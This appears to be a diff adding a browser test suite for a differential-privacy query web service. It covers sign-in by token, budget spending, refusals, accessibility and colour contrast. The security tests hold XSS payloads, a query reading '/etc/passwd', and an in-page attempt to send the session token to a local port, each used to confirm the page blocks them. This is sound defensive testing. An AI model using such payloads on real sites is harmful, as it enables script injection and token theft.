@@ -1,0 +1,486 @@
+"""The page in a real browser: ask, see, refuse, run out of budget, reload, two tabs; by mouse, and by keys alone.
+
+`SFUMATO_PICTURES=1 pytest -m long tests/service/test_page.py` writes the pictures of docs/serve.md anew.
+"""
+
+from __future__ import annotations
+
+import csv
+import json
+import os
+import re
+import subprocess
+import sys
+import threading
+import time
+import tomllib
+from collections.abc import Iterator
+from contextlib import contextmanager
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import pyarrow as pa
+import pyarrow.parquet as pq
+import pytest
+
+import sfumato as sf
+from sfumato.service.app import Limits, Service
+from sfumato.service.budgets import opened_budgets
+from sfumato.service.desk import Desk
+from sfumato.service.opened import AnalystsCatalog
+from sfumato.service.serving import PAGE, Settings, server
+from sfumato.service.tokens import Tokens
+from sfumato.service.worker import Inline
+
+from .browser import Browser, Tab, program
+from .browser import running as browsing
+
+ROOT = Path(__file__).parents[2]
+PICTURES = ROOT / "docs" / "pictures"
+COUNT = "SELECT WITH DIFFERENTIAL_PRIVACY OPTIONS (epsilon = {}, max_rows_per_group = 1, noise = laplace)\n  COUNT(*) AS n, AVG(docvis) AS visits\nFROM visits"
+MARKUP = "<img src=x onerror=window.hacked=1>"
+VALUES = ["<script>window.hacked=1</script>", "\"'><svg onload=window.hacked=1>", "{{7*7}}"]
+pytestmark = pytest.mark.noise_cannot_matter("it looks at what is shown, and at costs")
+
+
+@dataclass
+class Clinic:
+    """A service in a thread, and who may ask it."""
+
+    url: str
+    tokens: dict[str, str]
+    budgets: Any
+
+
+@contextmanager
+def serving(folder: Path, catalog: Path) -> Iterator[Clinic]:
+    ledger = sf.Ledger(folder / "budget.db")
+    ledger.create("registry", epsilon=20, delta="1e-5")
+    for name, epsilon in {"ann": 5, "bob": 1, "cleo": 5}.items():
+        ledger.grant("registry", name, epsilon=epsilon, delta="1e-5")
+    tokens = Tokens(folder / "tokens.db")
+    budgets = opened_budgets(str(folder / "budget.db"), "registry")
+    desk = Desk(AnalystsCatalog.of(sf.catalog(str(catalog))), budgets, {"threads": 1})
+    secrets = {name: tokens.create(name) for name in ("ann", "bob", "cleo")}
+    made = server(
+        Service(Inline(lambda: desk), tokens, Limits(), PAGE), Settings(catalog=str(catalog), port=0)
+    )
+    thread = threading.Thread(target=made.run)
+    thread.start()
+    try:
+        while not made.started:
+            assert thread.is_alive()
+            time.sleep(0.01)
+        port = made.servers[0].sockets[0].getsockname()[1]
+        yield Clinic(f"http://127.0.0.1:{port}/", secrets, budgets)
+    finally:
+        made.should_exit = True
+        thread.join(30)
+
+
+@pytest.fixture(scope="module")
+def clinic(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Clinic]:
+    """The registry of the README, as docs/serve.md serves it."""
+    folder = tmp_path_factory.mktemp("clinic")
+    (folder / "registry.toml").write_text((ROOT / "examples" / "serve" / "registry.toml").read_text())
+    command = [sys.executable, str(ROOT / "examples" / "rwm5yr.py"), str(folder / "rwm5yr.parquet")]
+    subprocess.run(command, check=True, capture_output=True)
+    with serving(folder, folder / "registry.toml") as made:
+        yield made
+
+
+@pytest.fixture(scope="module")
+def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
+    if program() is None:
+        pytest.skip("needs a browser: chromium in PATH, or Debian's package chromium")
+    with browsing(tmp_path_factory.mktemp("profile")) as made:
+        yield made
+
+
+def entered(browser: Browser, clinic: Clinic, name: str = "ann") -> Tab:
+    """A tab in which somebody has given a token, as by hand."""
+    tab = browser.tab(clinic.url)
+    tab.wait("document.activeElement.id === 'token'")
+    tab.type(clinic.tokens[name])
+    tab.key("Enter")
+    tab.wait("!document.getElementById('desk').hidden")
+    return tab
+
+
+def text(tab: Tab, selector: str) -> str:
+    return str(tab.evaluate(f"document.querySelector({json.dumps(selector)}).innerText"))
+
+
+def write(tab: Tab, sql: str) -> None:
+    """Write in the box, where another text was."""
+    tab.click("input[value=sql]")
+    tab.click("#sql")
+    tab.evaluate("document.getElementById('sql').select()")
+    tab.type(sql)
+
+
+def priced(tab: Tab) -> str:
+    """Wait until the cost is told, and return the button that spends it."""
+    return str(
+        tab.wait(
+            "((b) => /spend/.test(b.textContent) && !b.disabled && b.textContent)(document.getElementById('release'))"
+        )
+    )
+
+
+def answered(tab: Tab) -> None:
+    tab.wait("document.getElementById('status').textContent.startsWith('Answered')")
+    tab.wait("document.querySelector('#history table')")
+
+
+def picture(tab: Tab, name: str, folder: Path, clip: str | None = None) -> None:
+    """Write a picture, and see that it shows something; those of the docs also there, where that is asked for."""
+    path = folder / f"{name}.png"
+    tab.picture(path, clip)
+    assert path.stat().st_size > 5_000
+    if os.environ.get("SFUMATO_PICTURES") and f"{name}.png" in (ROOT / "docs" / "serve.md").read_text():
+        from PIL import Image
+
+        Image.open(path).convert("RGB").quantize(64).save(PICTURES / path.name, optimize=True)
+
+
+def harmless(tab: Tab, clinic: Clinic) -> None:
+    """Nothing failed or was refused, nothing is another host's, and the token is in no address."""
+    assert tab.complaints == []
+    assert all(one.startswith(clinic.url) or one in ("about:blank", "data:,") or one.startswith("blob:") for one in tab.requests)  # fmt: skip
+    assert not any(secret in one for one in tab.requests for secret in clinic.tokens.values())
+    assert tab.evaluate("document.cookie + JSON.stringify(localStorage) + location.search") == "{}"
+
+
+@pytest.mark.long
+def test_ask_and_see(browser: Browser, clinic: Clinic, tmp_path: Path) -> None:
+    tab = entered(browser, clinic)
+    assert "docvis" in text(tab, "#tables") and "0 to 30" in text(tab, "#tables")
+    tab.click("#form-add")  # an average of the first column with bounds
+    tab.wait("document.querySelectorAll('#expected tbody tr').length === 2")
+    assert "±" in text(tab, "#expected") and "docvis" in text(tab, "#expected")
+    assert clinic.budgets.of("ann").spent == (0, 0)  # the errors were free
+    assert priced(tab) == "Ask, and spend epsilon 1"
+    assert "epsilon 5 of 5 left" in text(tab, "#left")
+    picture(tab, "page-question", tmp_path)
+    tab.click("#release")
+    answered(tab)
+    assert clinic.budgets.of("ann").spent == (1, 0)
+    assert "epsilon 4 of 5 left" in tab.wait("/4 of 5/.test(document.getElementById('left').textContent) && document.getElementById('left').textContent")  # fmt: skip
+    rows = tab.evaluate(
+        "[...document.querySelectorAll('#answer tbody tr')].map((r) => [...r.cells].map((c) => c.textContent))"
+    )
+    assert [row[0] for row in rows] == ["1984", "1985", "1986", "1987", "1988"]
+    assert all(re.fullmatch(r"\d,\d{3} ± \d+", row[1]) and " ± 0." in row[2] for row in rows)
+    assert tab.evaluate("[...document.querySelectorAll('#answer svg .point, #answer svg .bar')].length") == 10
+    assert "1984 " in tab.evaluate("document.querySelector('#answer svg').getAttribute('aria-label')")
+    assert "n, mean_docvis by year" in text(tab, "#history")
+    picture(tab, "page-answer", tmp_path, "#answer")
+    harmless(tab, clinic)
+
+    before = text(tab, "#answer")
+    tab.reload()
+    tab.wait("!document.getElementById('answer').hidden")
+    assert text(tab, "#answer") == before and "n, mean_docvis by year" in tab.wait("document.querySelector('#history table') && document.getElementById('history').innerText")  # fmt: skip
+    assert clinic.budgets.of("ann").spent == (1, 0)
+
+    tab.click("#leave")
+    tab.wait("!document.getElementById('sign-in').hidden")
+    assert tab.evaluate("sessionStorage.length") == 0 and "1984" not in text(tab, "body")
+    tab.type("sfumato_" + "0" * 60)
+    tab.key("Enter")
+    tab.wait("/no such token/.test(document.getElementById('sign-in-error').textContent)")
+
+
+@pytest.mark.long
+def test_the_box_completes_marks_and_tells_the_price(
+    browser: Browser, clinic: Clinic, tmp_path: Path
+) -> None:
+    tab = entered(browser, clinic)
+    spent = clinic.budgets.of("ann").spent
+    write(tab, "SELECT WITH DIFFERENTIAL_PRIVACY OPTIONS (epsilon = 0.5)\n  year, AVG(do")
+    tab.wait("!document.getElementById('words').hidden")
+    assert "docvis" in text(tab, "#words") and "column of visits" in text(tab, "#words")
+    picture(tab, "page-completion", tmp_path, "#ask")
+    tab.key("ArrowDown")
+    assert tab.evaluate("document.getElementById('sql').getAttribute('aria-activedescendant')") == "word-0"
+    tab.key("Enter")
+    assert tab.evaluate("document.getElementById('sql').value").endswith("AVG(docvis")
+    tab.type(") AS visits, MAX(kids) AS most\nFROM visits GROUP BY year")
+    tab.wait("!document.getElementById('error').hidden")
+    assert text(tab, "#marks mark") == "MAX" and "MAX without bounds" in text(tab, "#error-text")
+    assert tab.evaluate("document.getElementById('sql').getAttribute('aria-invalid')") == "true"
+    # The mark lies behind the very word: the box and its copy break lines alike.
+    picture(tab, "page-error", tmp_path, "#ask")
+    tab.click("#go-to-error")
+    assert tab.evaluate("((b) => b.value.slice(b.selectionStart, b.selectionEnd))(document.activeElement)") == "MAX"  # fmt: skip
+
+    write(tab, COUNT.format(0.5))
+    tab.wait("document.querySelectorAll('#expected tbody tr').length === 2")
+    assert priced(tab) == "Ask, and spend epsilon 0.5" and tab.evaluate("document.getElementById('error').hidden")  # fmt: skip
+    error = "Number(document.querySelector('#expected tbody td')?.textContent.replace(/[^\\d.]/g, ''))"
+    wide = tab.evaluate(error)
+    tab.evaluate("document.getElementById('epsilon').focus()")
+    tab.key("ArrowRight", 2)  # 0.5, 1, 2
+    tab.wait(f"document.getElementById('epsilon-value').textContent === '2' && {error} < {wide / 2}")
+    assert "epsilon = 2," in tab.evaluate("document.getElementById('sql').value")
+    assert priced(tab) == "Ask, and spend epsilon 2"
+    asked = [one for one in tab.requests if one.endswith("/v1/ask")]
+    assert len(asked) < 12  # all budgets at once, and not one after the other
+    assert clinic.budgets.of("ann").spent == spent
+    harmless(tab, clinic)
+
+
+@pytest.mark.long
+def test_what_is_not_private_is_refused(browser: Browser, clinic: Clinic) -> None:
+    tab = entered(browser, clinic, "cleo")
+    for sql, why, marked in (
+        ("SELECT * FROM visits", "WITH DIFFERENTIAL_PRIVACY", None),
+        (COUNT.format(1).replace("COUNT(*)", "ANY_VALUE(docvis)"), "single rows", "ANY_VALUE"),
+        (COUNT.format(1).replace("docvis", "𝒟, docvist"), "", ""),
+        (COUNT.format(0), "epsilon", None),
+        (COUNT.format(1).replace("FROM visits", "FROM '/etc/passwd'"), "", None),
+        ("SELECT '𝒟😀' AS a, (" + COUNT.format(1).replace("AVG", "MODE") + ") AS b", "", None),
+    ):
+        write(tab, sql)
+        tab.wait("!document.getElementById('error').hidden")
+        tab.click("#release")
+        tab.wait("!document.getElementById('release').disabled && !document.getElementById('error').hidden")
+        assert why in text(tab, "#error-text")
+        if marked:
+            assert text(tab, "#marks mark") == marked
+        # What is marked stands where the text has it: nothing is lost of it, or moved.
+        assert tab.evaluate("document.getElementById('marks').textContent.startsWith(document.getElementById('sql').value)")  # fmt: skip
+    assert clinic.budgets.of("cleo").spent == (0, 0) and tab.evaluate("document.getElementById('answer').hidden")  # fmt: skip
+    write(tab, COUNT.format(1))
+    priced(tab)
+    tab.click("#try")
+    answered_dummy = "/^Answered.*made-up rows/.test(document.getElementById('status').textContent)"
+    tab.wait(answered_dummy)
+    assert "answer about nobody" in text(tab, "#answer") and clinic.budgets.of("cleo").spent == (0, 0)
+    harmless(tab, clinic)
+
+
+@pytest.mark.long
+def test_two_tabs_run_out_of_one_budget(browser: Browser, clinic: Clinic) -> None:
+    one, other = entered(browser, clinic, "bob"), entered(browser, clinic, "bob")
+    for tab in (one, other):
+        write(tab, COUNT.format(0.6))
+        assert priced(tab) == "Ask, and spend epsilon 0.6"
+    one.click("#release")
+    answered(one)
+    other.click("#release")
+    other.wait("!document.getElementById('error').hidden")
+    assert "more than is left" in text(other, "#error-text")
+    other.wait("/0.4 of 1 left/.test(document.getElementById('left').textContent)")
+    assert "n, visits" in text(other, "#history") and other.evaluate("document.getElementById('answer').hidden")  # fmt: skip
+    assert clinic.budgets.of("bob").spent[0] == pytest.approx(0.6)
+    # Two clicks on one button ask once.
+    write(other, COUNT.format(0.3))
+    priced(other)
+    other.evaluate("document.getElementById('release').click(); document.getElementById('release').click()")
+    answered(other)
+    assert clinic.budgets.of("bob").spent[0] == pytest.approx(0.9)
+    # What one spends, the other sees when it is looked at again.
+    one.send("Page.bringToFront")
+    one.wait("/0.1 of 1 left/.test(document.getElementById('left').textContent)")
+    assert "cleo" not in text(one, "body") and "ann" not in text(one, "#history")
+    harmless(other, clinic)
+
+
+@pytest.mark.long
+def test_all_of_it_by_keys(browser: Browser, clinic: Clinic) -> None:
+    tab = browser.tab(clinic.url)
+    tab.wait("document.activeElement.id === 'token'")
+    tab.type(clinic.tokens["cleo"])
+    tab.key("Enter")
+    tab.wait("!document.getElementById('desk').hidden")
+    priced(tab)
+    seen: list[str] = []
+
+    def to(wanted: str) -> None:
+        for _ in range(80):
+            tab.key("Tab")
+            seen.append(str(tab.evaluate("document.activeElement.id")))
+            outline = tab.evaluate(
+                "((e) => e === document.body ? '3px' : getComputedStyle(e).outlineStyle === 'none' ? '' : getComputedStyle(e).outlineWidth)(document.activeElement)"
+            )
+            assert outline == "3px", f"the focus is not seen at {seen[-1]}"
+            if seen[-1] == wanted:
+                return
+        raise AssertionError(f"{wanted} is not reached: {seen}")
+
+    to("form-table")
+    to("form-add")
+    tab.key("Enter")
+    tab.wait("document.querySelectorAll('.statistic').length === 2")
+    assert tab.evaluate("document.activeElement.id") == "form-add"  # and is not lost by drawing anew
+    to("epsilon")
+    tab.key("ArrowLeft")
+    tab.wait("document.getElementById('epsilon-value').textContent === '0.5'")
+    assert priced(tab) == "Ask, and spend epsilon 0.5"
+    to("release")
+    tab.key("Enter")
+    answered(tab)
+    assert tab.evaluate("document.activeElement.id") == "answer"
+    to("copy")
+    assert {"max-rows", "size", "group-0"} <= set(seen)
+    spoken = tab.send("Accessibility.getFullAXTree")["nodes"]
+    controls = {"textbox", "button", "combobox", "slider", "spinbutton", "radio", "checkbox", "link", "image", "table", "meter"}  # fmt: skip
+    found = [one for one in spoken if one.get("role", {}).get("value") in controls and not one["ignored"]]
+    assert len(found) > 25
+    assert [one for one in found if not one.get("name", {}).get("value")] == []
+    assert tab.evaluate("document.getElementById('status').getAttribute('role')") == "status"
+    harmless(tab, clinic)
+
+
+SEEN = """(() => {
+  const parts = (c) => (c.match(/[\\d.]+/g) ?? [0, 0, 0, 0]).map(Number);
+  const light = (c) => { const f = (v) => (v / 255 <= 0.04045 ? v / 255 / 12.92 : ((v / 255 + 0.055) / 1.055) ** 2.4);
+    return 0.2126 * f(c[0]) + 0.7152 * f(c[1]) + 0.0722 * f(c[2]); };
+  const ratio = (a, b) => { const [x, y] = [light(a), light(b)].sort((p, q) => q - p); return (x + 0.05) / (y + 0.05); };
+  const behind = (e) => { for (; e; e = e.parentElement) { const c = parts(getComputedStyle(e).backgroundColor); if (c.length < 4 || c[3] === 1) return c; }
+    return parts(getComputedStyle(document.documentElement).backgroundColor); };
+  const found = [];
+  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
+  while (walker.nextNode()) {
+    const e = walker.currentNode.parentElement;
+    if (!walker.currentNode.textContent.trim() || !e.checkVisibility() || e.closest("#marks, option, title, noscript")) continue;
+    const style = getComputedStyle(e), own = parts(e instanceof SVGElement ? style.fill : style.color);
+    found.push([ratio(own, behind(e)), e.tagName, walker.currentNode.textContent.trim().slice(0, 40)]);
+  }
+  for (const e of document.querySelectorAll("input:not([type=range]):not([type=radio]):not([type=checkbox]), select, textarea"))
+    if (e.checkVisibility()) found.push([ratio(parts(getComputedStyle(e).borderTopColor), behind(e.parentElement)) * 1.5, e.tagName, "edge of " + e.id]);
+  return found;
+})()"""  # an edge needs 3, two thirds of what a text needs
+
+
+@pytest.mark.long
+def test_narrow_and_wide_light_and_dark(browser: Browser, clinic: Clinic, tmp_path: Path) -> None:
+    tab = entered(browser, clinic, "cleo")
+    write(tab, COUNT.format(0.1).replace("\n  COUNT", "\n  outwork, COUNT") + "\nGROUP BY outwork")
+    tab.click("#try")
+    tab.wait("/^Answered.*made-up rows/.test(document.getElementById('status').textContent)")
+    write(tab, "SELECT WITH DIFFERENTIAL_PRIVACY OPTIONS (epsilon = 1) MAX(kids) AS n FROM visits")
+    tab.wait("!document.getElementById('error').hidden")
+    tab.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true; })")
+    for scheme, width in [("light", 360), ("light", 768), ("light", 1280), ("dark", 360), ("dark", 1280)]:
+        tab.scheme(scheme)
+        tab.size(width, 800)
+        assert tab.evaluate("document.documentElement.scrollWidth") <= width
+        picture(tab, f"page-{scheme}-{width}", tmp_path)
+        seen = tab.evaluate(SEEN)
+        assert len(seen) > 100 and not [one for one in seen if one[0] < 4.5]
+        small = tab.evaluate(
+            "[...document.querySelectorAll('button, select, input, summary')].filter((e) => e.checkVisibility())"
+            ".map((e) => [e.id || e.textContent, e.getBoundingClientRect().height]).filter((e) => e[1] < 16)"
+        )
+        assert small == []  # what a finger has to meet
+    # A planted defect is seen.
+    tab.evaluate("document.getElementById('left').style.color = 'rgb(119, 119, 119)'")
+    assert any(one[0] < 4.5 for one in tab.evaluate(SEEN))
+
+
+@pytest.mark.long
+def test_what_may_be_kept(browser: Browser, clinic: Clinic, tmp_path: Path) -> None:
+    tab = entered(browser, clinic, "cleo")
+    write(tab, COUNT.format(0.1).replace("\n  COUNT", "\n  year, COUNT") + "\nGROUP BY year -- \"'\\")
+    priced(tab)
+    tab.click("#try")
+    tab.wait("/^Answered.*made-up rows/.test(document.getElementById('status').textContent)")
+    browser.send("Browser.setDownloadBehavior", behavior="allow", downloadPath=str(tmp_path))
+    for name, file in (("CSV", "made-up.csv"), ("JSON", "made-up.json"), ("receipt", "receipt.json")):
+        number = ["CSV", "JSON", "receipt"].index(name) + 1
+        tab.click(f"#answer .actions button:nth-child({number})")
+        until = time.monotonic() + 30
+        while not (tmp_path / file).exists() and time.monotonic() < until:
+            time.sleep(0.05)
+    made = json.loads((tmp_path / "made-up.json").read_text())
+    with (tmp_path / "made-up.csv").open(newline="") as opened:
+        head, *rows = csv.reader(opened)
+    assert head == ["year", "n", "visits", "n_error", "visits_error"]
+    assert [[float(v) for v in row[:3]] for row in rows] == made["rows"]
+    assert [float(row[3]) for row in rows] == made["errors"]["n"]
+    assert json.loads((tmp_path / "receipt.json").read_text()) == made["receipt"]
+    # The program asks the same, as it stands there.
+    told = tab.evaluate("document.querySelectorAll('#answer details pre')[1].textContent")
+    assert clinic.tokens["cleo"] not in told
+    done = subprocess.run([sys.executable, "-c", told], check=False, env=os.environ | {"SFUMATO_TOKEN": clinic.tokens["cleo"]}, capture_output=True, text=True)  # fmt: skip
+    assert done.returncode == 0 and "1988" in done.stdout and "visits" in done.stdout, done.stderr
+    harmless(tab, clinic)
+
+
+@pytest.mark.long
+def test_names_and_values_are_no_markup(browser: Browser, tmp_path: Path) -> None:
+    values = [VALUES[i % 3] for i in range(300)]
+    pq.write_table(pa.table({"id": list(range(300)), MARKUP: values}), tmp_path / "rows.parquet")
+    listed = ", ".join(json.dumps(one) for one in VALUES)
+    catalog = tmp_path / "hostile.toml"
+    catalog.write_text(
+        f'[tables.{json.dumps(MARKUP)}]\nsource = "rows.parquet"\nprivacy_unit = "id"\n'
+        f"[tables.{json.dumps(MARKUP)}.columns]\n{json.dumps(MARKUP)} = {{domain = [{listed}]}}\n"
+    )
+    assert tomllib.loads(catalog.read_text())
+    with serving(tmp_path, catalog) as hostile:
+        tab = entered(browser, hostile)
+        assert MARKUP in text(tab, "#tables") and priced(tab)
+        tab.click("#release")
+        answered(tab)
+        assert VALUES[0] in text(tab, "#answer") and MARKUP in text(tab, "#history")
+        write(tab, f"SELECT {MARKUP}")
+        tab.wait("!document.getElementById('error').hidden")
+        assert tab.evaluate("window.hacked === undefined && document.querySelectorAll('img, script:not([src])').length === 0")  # fmt: skip
+        harmless(tab, hostile)
+        # Nor could a script that somebody put in run, or send the token away.
+        said = tab.evaluate(
+            "(async () => { const found = []; "
+            "try { document.body.innerHTML = '<img src=x onerror=window.hacked=1>'; } catch (e) { found.push(e.name); } "
+            "const s = document.createElement('script'); try { s.textContent = 'window.hacked = 1'; document.body.append(s); } catch (e) { found.push(e.name); } "
+            "try { await fetch('http://127.0.0.1:9/?' + sessionStorage.getItem('sfumato.token')); } catch (e) { found.push(e.name); } "
+            "return [found, window.hacked === undefined]; })()"
+        )
+        assert said == [["TypeError", "TypeError", "TypeError"], True]
+        assert any("Content Security Policy" in one for one in tab.complaints)
+
+
+def ratio(one: str, other: str) -> float:
+    """The contrast of two colours, by WCAG."""
+
+    def light(colour: str) -> float:
+        parts = [int(colour[i : i + 2], 16) / 255 for i in (1, 3, 5)]
+        red, green, blue = [v / 12.92 if v <= 0.04045 else ((v + 0.055) / 1.055) ** 2.4 for v in parts]
+        return 0.2126 * red + 0.7152 * green + 0.0722 * blue
+
+    low, high = sorted((light(one), light(other)))
+    return (high + 0.05) / (low + 0.05)
+
+
+def test_colours_are_told_apart() -> None:
+    style = (PAGE / "page.css").read_text()
+    found = [dict(re.findall(r"--([\w-]+): (#\w{6})", block)) for block in re.findall(r":root \{(.*?)\}", style, re.DOTALL)]  # fmt: skip
+    assert len(found) == 2 and set(found[0]) == set(found[1])
+    for colours in found:
+        for back in ("back", "panel"):
+            for front in ("text", "quiet", "accent", "wrong", "made-up"):
+                assert ratio(colours[front], colours[back]) >= 4.5, (front, back)
+            for edge in ("edge", "focus"):
+                assert ratio(colours[edge], colours[back]) >= 3, (edge, back)
+        assert ratio(colours["on-accent"], colours["accent"]) >= 4.5
+        assert ratio(colours["text"], colours["wrong-back"]) >= 4.5
+    assert ratio("#000000", "#ffffff") == pytest.approx(21)
+
+
+def test_the_page_is_plain() -> None:
+    """No script or style in the markup, nothing of another host, and no text that is read as markup."""
+    index = (PAGE / "index.html").read_text()
+    assert not re.search(r"<script(?![^>]*\bsrc=)|<style|\sstyle=|\son\w+=", index)
+    for path in PAGE.iterdir():
+        written = path.read_text()
+        assert not re.search(r"(?:src|href|url|import|fetch)[^\n]{0,3}[(\"'=]\s*[\"']?(?:https?:)?//", written), path  # fmt: skip
+        for word in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "localStorage", "document.cookie", "http://", "https://"):  # fmt: skip
+            assert word not in written.replace("http://www.w3.org/2000/svg", ""), (path, word)
+        assert len(written.splitlines()) < 400
+    assert sum(path.stat().st_size for path in PAGE.iterdir()) < 80_000
+    labelled = set(re.findall(r'<label for="([\w-]+)"', index)) | set(re.findall(r'<label class="inline" for="([\w-]+)"', index))  # fmt: skip
+    assert {"token", "sql", "epsilon", "size"} <= labelled
